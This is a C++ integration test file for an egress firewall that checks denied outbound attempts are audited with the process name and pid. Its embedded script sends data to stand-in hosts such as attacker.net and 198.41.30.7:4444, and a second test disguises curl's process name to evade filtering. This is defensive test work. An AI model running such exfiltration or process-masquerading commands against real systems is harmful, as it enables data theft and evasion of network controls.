// Who made a refused attempt: the audit names the program and its number inside.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <chrono>

#include "support/audit.hpp"
#include "support/awf_run.hpp"

namespace awf::integration {
namespace {

using nlohmann::json;
using test_world::Caller;
using testing::HasSubstr;
using testing::Not;

// Keeps the sockets of its refused attempts until it is told to end, so that the look-up, which
// nothing waits for, cannot come too late.
constexpr const char* kAttempts = R"(
import os, socket, struct, sys
kept = []
def attempt(kind, target, data, read=True):
    s = socket.socket(socket.AF_INET, kind)
    s.settimeout(10)
    kept.append(s)
    try:
        s.connect(target)
        s.send(data)
        if read: s.recv(4096)
    except OSError:
        pass
name = lambda text: b''.join(bytes([len(x)]) + x.encode() for x in text.split('.')) + b'\0'
query = b'\x12\x34\x01\0\0\1\0\0\0\0\0\0' + name('lookup.attacker.net') + b'\0\1\0\1'
attempt(socket.SOCK_STREAM, ('127.0.0.1', 3128), b'CONNECT attacker.net:443 HTTP/1.1\r\nHost: attacker.net:443\r\n\r\n')
mapped = socket.gethostbyname('example.org')
attempt(socket.SOCK_STREAM, (mapped, 443), b'not a hello')
attempt(socket.SOCK_DGRAM, ('127.0.0.1', 53), query)
attempt(socket.SOCK_STREAM, ('127.0.0.1', 53), struct.pack('>H', len(query)) + query.replace(b'lookup', b'stream'))
attempt(socket.SOCK_DGRAM, ('198.41.30.7', 4444), b'secret', read=False)
print('pid', os.getpid(), flush=True)
sys.stdin.readline()
)";

std::string caller_name(const testing::TestParamInfo<Caller>& info) {
  return test_world::name_of(info.param);
}

class Attribution : public testing::TestWithParam<Caller> {
 protected:
  // What the audit says of one attempt, once it says anything.
  json record_of(const std::string& name, unsigned port) {
    const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(10);
    while (std::chrono::steady_clock::now() < deadline) {
      for (auto& record : test_world::audit_records(world)) {
        if (record["name"] == name && record["port"] == port && record["verdict"] == "deny") {
          return record;
        }
      }
    }
    return json::object();
  }

  test_world::World world = test_world::World::start();
};

INSTANTIATE_TEST_SUITE_P(Callers, Attribution,
                         testing::Values(Caller::kRoot, Caller::kSudo, Caller::kRootless),
                         caller_name);

TEST_P(Attribution, each_door_that_can_names_the_process_and_its_number_inside) {
  test_world::RunOptions options;
  options.caller = GetParam();
  options.input_stays_open = true;
  auto run =
      world.spawn_awf({"--allow-domains", "example.org", "--audit-dir", test_world::kAuditDirectory,
                       "--", "/usr/bin/python3", "-c", kAttempts, "--token=hunter2hunter2"},
                      options);
  ASSERT_TRUE(run.wait_for_output("pid ")) << run.errors();
  ASSERT_TRUE(run.wait_for_output("\n"));
  const auto at = run.output().find("pid ") + 4;
  const unsigned pid = static_cast<unsigned>(std::stoul(run.output().substr(at)));
  const json expected = {{"name", "python3"}, {"pid", pid}};
  const std::vector<std::pair<std::string, unsigned>> attempts{{"attacker.net", 443},
                                                               {"example.org", 443},
                                                               {"lookup.attacker.net", 53},
                                                               {"stream.attacker.net", 53},
                                                               {"198.41.30.7", 4444}};
  for (const auto& [name, port] : attempts) {
    const json record = record_of(name, port);
    EXPECT_EQ(record.value("process", json()), expected) << name << ": " << record;
  }
  run.write_input("go\n");
  EXPECT_EQ(run.finish().exit_code, 0);
  const auto audit = world.file(std::string(test_world::kAuditDirectory) + "/audit.jsonl");
  EXPECT_THAT(*audit, Not(HasSubstr("hunter2")));
}

// Names are chosen by their owners; a record is all that they reach.
TEST_P(Attribution, NET_35_PROC_11_a_process_that_calls_itself_otherwise_is_allowed_nothing_more) {
  test_world::RunOptions options;
  options.caller = GetParam();
  const std::string line =
      "cp -L /usr/bin/curl ./awf-egress-prox && ./awf-egress-prox -sS -m 10 https://attacker.net/; "
      "bash -c 'exec -a awf curl -sS -m 10 https://attacker.net/'";
  const auto result = world.run_awf({"--allow-domains", "example.org", "--", line}, options);
  EXPECT_NE(result.exit_code, 0) << result;
  EXPECT_THAT(result.output, Not(HasSubstr("hello")));
  EXPECT_THAT(world.packets_to_others(), testing::IsEmpty());
}

}  // namespace
}  // namespace awf::integration
